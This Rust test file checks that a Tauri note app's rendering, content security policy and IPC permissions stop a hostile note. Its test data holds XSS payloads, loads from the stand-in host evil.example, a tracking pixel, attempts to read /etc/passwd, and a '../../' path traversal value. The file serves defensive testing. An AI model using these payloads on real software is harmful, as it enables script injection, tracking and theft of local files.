//! What a hostile note can't do in the real window, and what could not be done if it got through.

use serde_json::{Value, json};
use tests::{Cli, Window, until};
use thirtyfour::prelude::*;
use tokio::net::TcpListener;

/// A note that tries each way at once: to run, to load, to be clicked.
fn hostile(port: u16) -> String {
    format!(
        "<script>window.ran = 1</script><img src=x onerror=\"window.ran = 2\">\n\n\
         [a](javascript:window.ran=3) [b](data:text/html,<script>top.ran=4</script>)\n\n\
         <svg onload=\"window.ran = 5\"></svg> <iframe srcdoc=\"<script>top.ran=6</script>\"></iframe>\n\n\
         <style>body {{ display: none }}</style> <div style=\"position:fixed;inset:0\">cover</div>\n\n\
         ![pixel](https://127.0.0.1:{port}/track.png)\n\nThe end of it.\n"
    )
}

/// Clicks whatever there is of the note, but for the picture that waits for a click.
const CLICK_ALL: &str = "for (const part of document.querySelectorAll('article.doc *'))
    if (!part.closest('button')) { part.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })); part.click(); }";

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_note_runs_nothing_and_loads_nothing_and_a_picture_comes_after_a_click_only() {
    let web = TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let port = web.local_addr().expect("an address").port();
    let (asked, mut hears) = tokio::sync::watch::channel(0);
    tokio::spawn(async move {
        while let Ok((line, _)) = web.accept().await {
            asked.send_modify(|count| *count += 1);
            drop(line);
        }
    });
    let folder = tempfile::tempdir().expect("a folder");
    let _ = Cli::new(folder.path()).run_with(&["new", "--title", "Hostile", "--body", "-"], &hostile(port));
    let window = Window::open(folder.path()).await;
    window.open_note("Hostile").await;
    let place = window.answer("return location.href").await;

    let _ = window.answer(CLICK_ALL).await;
    window.press(Key::Escape).await;
    window.click("turn").await;
    until("it is read", || async { window.driver.find(By::Css(".read .pic-box")).await.ok() }).await;
    let _ = window.answer(CLICK_ALL).await;
    assert_eq!(window.answer("return window.ran ?? null").await, Value::Null);
    assert_eq!(window.answer("return location.href").await, place);
    assert_eq!(window.answer("return getComputedStyle(document.body).display !== 'none'").await, json!(true));
    assert_eq!(*hears.borrow(), 0, "nothing was asked for");

    let _ = window.answer("document.querySelector('.read .pic-box').click()").await;
    tokio::time::timeout(tests::PATIENCE, hears.changed()).await.expect("the picture is asked for").expect("it hears");
}

/// Whatever gets into the page in spite of it all is stopped by the policy of the window.
#[tokio::test(flavor = "multi_thread")]
async fn what_gets_into_the_page_runs_nothing_and_reaches_nobody() {
    let folder = tempfile::tempdir().expect("a folder");
    let window = Window::open(folder.path()).await;
    let script = "const done = arguments[arguments.length - 1];
        const stopped = [];
        document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
        const put = (html) => document.body.append(document.createRange().createContextualFragment(html));
        put('<script>window.ran = 1</scr' + 'ipt><img src=\"data:,\" onerror=\"window.ran = 2\">');
        put('<script src=\"https://evil.example/a.js\"></scr' + 'ipt><iframe src=\"https://evil.example/\"></iframe>');
        put('<link rel=stylesheet href=\"https://evil.example/a.css\"><object data=\"https://evil.example/a\"></object>');
        put('<img src=\"http://evil.example/track.png\">');
        for (const address of ['https://evil.example/', 'file:///etc/hostname', 'data:text/html,x'])
            try { location.assign(address); } catch {}
        let evaluated = 'ran'; try { new Function('return 1')(); } catch (error) { evaluated = error.name; }
        fetch('https://evil.example/').then(() => 'went', () => 'stopped').then((fetched) => setTimeout(() =>
            done({ stopped: [...new Set(stopped)].sort(), evaluated, fetched, ran: window.ran ?? null }), 300))";
    let seen = window.later(script).await;
    assert_eq!(
        (&seen["ran"], &seen["evaluated"], &seen["fetched"]),
        (&Value::Null, &json!("EvalError"), &json!("stopped"))
    );
    let stopped: Vec<&str> = seen["stopped"].as_array().expect("a list").iter().filter_map(Value::as_str).collect();
    for directive in
        ["connect-src", "frame-src", "img-src", "object-src", "script-src-attr", "script-src-elem", "style-src-elem"]
    {
        assert!(stopped.contains(&directive), "{directive}: {stopped:?}");
    }
    assert!(window.shows("note-list").await, "the window shows the app");
    assert!(window.answer("return location.href").await.as_str().is_some_and(|at| at.starts_with("tauri://localhost")));
    // What is not ours to ask is refused by the host, whoever asks.
    let asked = "const done = arguments[arguments.length - 1];
        const ask = (command, args) => window.__TAURI_INTERNALS__.invoke(command, args).then(() => 'done', (error) => String(error.code ?? error));
        Promise.all([ask('plugin:fs|read_file', { path: '/etc/passwd' }), ask('plugin:shell|open', { path: 'x' }),
            ask('plugin:window|create', {}), ask('get_note', { id: 1 }), ask('get_note', {}),
            ask('open_outside', { address: 'file:///etc/passwd' }), ask('open_profile', { name: '../../up' })]).then(done)";
    let answers = window.later(asked).await;
    let answers: Vec<&str> = answers.as_array().expect("a list").iter().filter_map(Value::as_str).collect();
    assert_eq!(answers.len(), 7);
    assert!(!answers.contains(&"done"), "{answers:?}");
    assert_eq!(answers[5..], ["invalid", "invalid"]);
}
